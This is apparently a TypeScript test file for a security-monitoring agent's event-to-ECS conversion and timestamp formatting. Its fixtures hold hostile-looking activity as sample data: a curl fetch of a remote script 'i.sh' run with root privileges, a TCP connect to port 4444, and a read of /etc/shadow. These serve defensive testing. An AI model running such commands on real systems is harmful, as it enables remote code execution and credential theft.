import { CanonicalEvent, EcsContainer, EcsEndpoint, EcsFile, EcsNetwork } from "@vigil/proto";
import { ecsDocumentOf, ecsEventView } from "./ecs-event-view";
import { ECS_TOP_LEVEL_FIELDS, IsoClock, toEcsDocument } from "./to-ecs-document";

/** An exec with every part the server fills; `change` adds or empties parts. */
function execEvent(change: (event: CanonicalEvent) => void = () => {}): CanonicalEvent {
  const event = CanonicalEvent.fromPartial({
    timestampUs: 1_763_900_000_123_456,
    event: {
      id: "a1:7:0",
      kind: "event",
      category: ["process"],
      type: ["start"],
      action: "exec",
      ingestedUs: 1_763_900_001_000_000,
    },
    host: { id: "a1", hostname: "web-01", os: { type: "linux", kernel: "6.12.0" } },
    agent: { id: "a1", version: "0.2.0" },
    process: {
      pid: 4242,
      entityId: "e-4242",
      executable: "/usr/bin/curl",
      args: ["curl", "-s", "http://x/i.sh"],
      argsCount: 3,
      commandLine: "curl -s http://x/i.sh",
      startUs: 1_763_899_990_000_000,
      user: { id: "1000", name: "alice" },
      parent: { pid: 4000, executable: "/bin/bash", parent: { pid: 1, executable: "/sbin/init" } },
    },
    user: { id: "1000", name: "alice", effective: { id: "0", name: "root" } },
    vigil: { stdin_remote_ip: "203.0.113.9" },
  });
  change(event);
  return event;
}

const EVENTS: [string, CanonicalEvent][] = [
  ["an exec", execEvent()],
  [
    "a connect",
    execEvent((event) => {
      event.destination = EcsEndpoint.fromPartial({ ip: "10.0.0.1", port: 4444 });
      event.network = EcsNetwork.fromPartial({ transport: "tcp" });
    }),
  ],
  [
    "a file open",
    execEvent((event) => {
      event.file = EcsFile.fromPartial({ path: "/etc/shadow", name: "shadow", flags: ["O_RDONLY"] });
    }),
  ],
  ["an event with nothing but a time", CanonicalEvent.fromPartial({ timestampUs: 5_000 })],
  [
    "empty sub-messages",
    execEvent((event) => {
      event.container = EcsContainer.fromPartial({});
      event.vigil = {};
    }),
  ],
];

describe("ecsEventView", () => {
  test.each(EVENTS)("%s: every top-level field reads as toEcsDocument has it", (_, event) => {
    const expected = toEcsDocument(event);
    const view = ecsEventView(event);
    for (const [name] of ECS_TOP_LEVEL_FIELDS) expect(view[name]).toEqual(expected[name]);
  });

  test.each(EVENTS)("%s: the whole document equals toEcsDocument, keys in the same order", (_, event) => {
    const view = ecsEventView(event);
    expect(JSON.stringify(ecsDocumentOf(view))).toBe(JSON.stringify(toEcsDocument(event)));
  });

  test("a field read before the whole document is the one the document holds (built once)", () => {
    const view = ecsEventView(execEvent());
    const process = view.process;
    expect(ecsDocumentOf(view).process).toBe(process);
    expect(ecsDocumentOf(view)).toBe(ecsDocumentOf(view));
  });

  test("events sharing a parent process (as a bus batch's do) share its document, equal to its own build", () => {
    const first = execEvent();
    const second = execEvent();
    if (second.process) second.process.parent = first.process?.parent;
    const [a, b] = [toEcsDocument(first), toEcsDocument(second)];
    expect((a.process as Record<string, unknown>).parent).toBe((b.process as Record<string, unknown>).parent);
    const unshared = toEcsDocument(CanonicalEvent.fromPartial(CanonicalEvent.toJSON(first) as object));
    expect((a.process as Record<string, unknown>).parent).toEqual(
      (unshared.process as Record<string, unknown>).parent,
    );
  });

  test("a plain document is its own document", () => {
    const doc = toEcsDocument(execEvent());
    expect(ecsDocumentOf(doc)).toBe(doc);
  });
});

describe("IsoClock", () => {
  test("formats like Date#toISOString, also when seconds alternate and at the ends of the date range", () => {
    const clock = new IsoClock();
    const samples = [
      0, 999, 1000, -1, -1000, -1001, 1_763_900_000_123_456, 1_763_900_000_999_999,
      // The last millisecond of year 9999 and the first after it, year 0 and the second before it.
      253_402_300_799_999_000, 253_402_300_800_000_000, -62_167_219_200_000_000, -62_167_219_201_000_000,
    ];
    let seed = 7;
    for (let i = 0; i < 5000; i++) {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      // Pairs in the same second, then a jump: both paths of the cache.
      const us = (seed - 2 ** 30) * 1_000_003;
      samples.push(us, us + 1_500, us + 7_000_000);
    }
    for (const us of samples) expect(clock.format(us)).toBe(new Date(Math.floor(us / 1000)).toISOString());
  });
});
